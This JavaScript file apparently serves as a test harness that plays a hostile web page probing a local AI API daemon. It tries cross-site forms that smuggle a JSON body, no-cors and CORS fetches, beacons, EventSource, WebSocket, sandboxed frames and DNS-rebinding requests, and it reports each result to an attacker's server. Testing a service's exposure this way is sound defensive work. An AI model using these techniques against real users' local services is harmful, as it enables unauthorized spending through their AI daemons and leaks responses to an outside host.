// What an attacker's page tries, and what it gets to see of it. Every attempt resolves to a plain object.

const prompt = { model: 'speaker-openai', max_tokens: 16, messages: [{ role: 'user', content: 'spend money' }] };
const body = JSON.stringify(prompt);

// What a fetch shows: an opaque answer has status 0 and no text.
async function fetched(url, init) {
  try {
    const response = await fetch(url, { credentials: 'include', ...init });
    return { status: response.status, type: response.type, text: await response.text() };
  } catch (error) {
    return { error: error.name };
  }
}

// Which of these events of a thing comes first, and what the thing says then.
const first = (thing, events, say = () => ({})) =>
  new Promise((resolve) => {
    const saw = ({ type, data }) => resolve({ event: type, ...(data && { text: String(data) }), ...say(thing) });
    events.forEach((event) => thing.addEventListener(event, saw));
  });

const element = (tag, attributes, parent = document.body) =>
  parent.appendChild(Object.assign(document.createElement(tag), attributes));

// The frame's document, where the page may look into it.
function looksInto(frame) {
  try {
    return { text: frame.contentDocument?.documentElement.textContent ?? null };
  } catch (error) {
    return { error: error.name };
  }
}

// A form needs no permission of its target. As text/plain, its one field makes a JSON document.
async function form(action, enctype) {
  const frame = element('iframe', { name: `frame-${Math.random()}` });
  const [name, value] = [`${body.slice(0, -1)},"x":"`, '"}'];
  const sent = element('form', { action, enctype, method: 'post', target: frame.name });
  element('input', { type: 'hidden', name, value }, sent);
  const loaded = first(frame, ['load', 'error'], looksInto);
  sent.submit();
  return loaded;
}

// Runs a script in a frame without an origin; it answers by a message.
async function sandboxed(script) {
  const said = new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data), { once: true }));
  element('iframe', {
    sandbox: 'allow-scripts allow-forms',
    srcdoc: `<script>(async () => parent.postMessage(await (${script})(), '*'))();</script>`,
  });
  return said;
}

const post = (type, mode, what = body) => ({ method: 'POST', body: what, headers: { 'content-type': type }, mode });
const ws = (url) => url.replace(/^http/, 'ws');

// One attempt for each way in that a browser has, against the daemon at `target`.
const crossSite = (target) => ({
  'form, text/plain': () => form(`${target}/v1/messages`, 'text/plain'),
  'form, urlencoded': () => form(`${target}/v1/chat/completions`, 'application/x-www-form-urlencoded'),
  'form, multipart': () => form(`${target}/v1/chat/completions`, 'multipart/form-data'),
  image: () => first(element('img', { src: `${target}/v1/models` }), ['load', 'error']),
  script: () => first(element('script', { src: `${target}/v1/models` }), ['load', 'error']),
  frame: () => first(element('iframe', { src: `${target}/v1/models` }), ['load', 'error'], looksInto),
  'no-cors fetch': () => fetched(`${target}/v1/messages`, post('text/plain', 'no-cors')),
  'no-cors fetch, urlencoded': () =>
    fetched(`${target}/v1/messages`, post('application/x-www-form-urlencoded', 'no-cors')),
  'no-cors fetch, GET': () => fetched(`${target}/v1/models`, { mode: 'no-cors' }),
  'cors fetch, GET': () => fetched(`${target}/v1/models`, {}),
  'cors fetch, text/plain': () => fetched(`${target}/v1/messages`, post('text/plain', 'cors')),
  'preflighted fetch, JSON': () => fetched(`${target}/v1/messages`, post('application/json', 'cors')),
  'preflighted fetch, key': () =>
    fetched(`${target}/v1/models`, { headers: { authorization: 'Bearer guess', 'x-api-key': 'guess' } }),
  beacon: async () => ({ error: navigator.sendBeacon(`${target}/v1/messages`, body) ? 'sent' : 'refused' }),
  EventSource: () => first(new EventSource(`${target}/v1/messages`), ['message', 'open', 'error']),
  WebSocket: () => first(new WebSocket(`${ws(target)}/v1/messages`), ['message', 'open', 'error']),
  'sandboxed frame, no-cors fetch': () =>
    sandboxed(`async () => {
      const init = { method: 'POST', body: ${JSON.stringify(body)}, mode: 'no-cors' };
      const response = await fetch('${target}/v1/messages', init);
      return { status: response.status, type: response.type, text: await response.text() };
    }`),
  'sandboxed frame, cors fetch': () =>
    sandboxed(`async () => {
      try {
        const init = { method: 'POST', body: ${JSON.stringify(body)}, headers: { 'content-type': 'text/plain' } };
        const response = await fetch('${target}/v1/messages', init);
        return { status: response.status, text: await response.text() };
      } catch (error) {
        return { error: error.name };
      }
    }`),
});

// The page's own name points at the daemon by now, so the browser takes all of this for the page's own site.
const rebound = (target) => ({
  models: () => fetched(`${target}/v1/models`),
  greeting: () => fetched(`${target}/`),
  health: () => fetched(`${target}/health`),
  metrics: () => fetched(`${target}/metrics`),
  'a message': () => fetched(`${target}/v1/messages`, post('application/json')),
  'a chat, streamed': () =>
    fetched(`${target}/v1/chat/completions`, {
      ...post('application/json'),
      body: JSON.stringify({ ...prompt, stream: true }),
    }),
  'a message with a guessed key': () =>
    fetched(`${target}/v1/messages`, {
      ...post('application/json'),
      headers: { 'content-type': 'application/json', authorization: 'Bearer guess' },
    }),
  EventSource: () => first(new EventSource(`${target}/v1/models`), ['message', 'open', 'error']),
  WebSocket: () => first(new WebSocket(`${ws(target)}/v1/messages`), ['message', 'open', 'error']),
  frame: () => first(element('iframe', { src: `${target}/v1/models` }), ['load', 'error'], looksInto),
});

// Makes the attempts one after another, and tells the attacker's server after each, which looks at the daemon.
async function attack(reports, attempts) {
  const tell = (report) => fetch(`${reports}/report`, post('text/plain', 'cors', JSON.stringify(report)));
  for (const [name, attempt] of Object.entries(attempts)) {
    await tell({ name, saw: await attempt() });
  }
  await tell({ name: null });
}
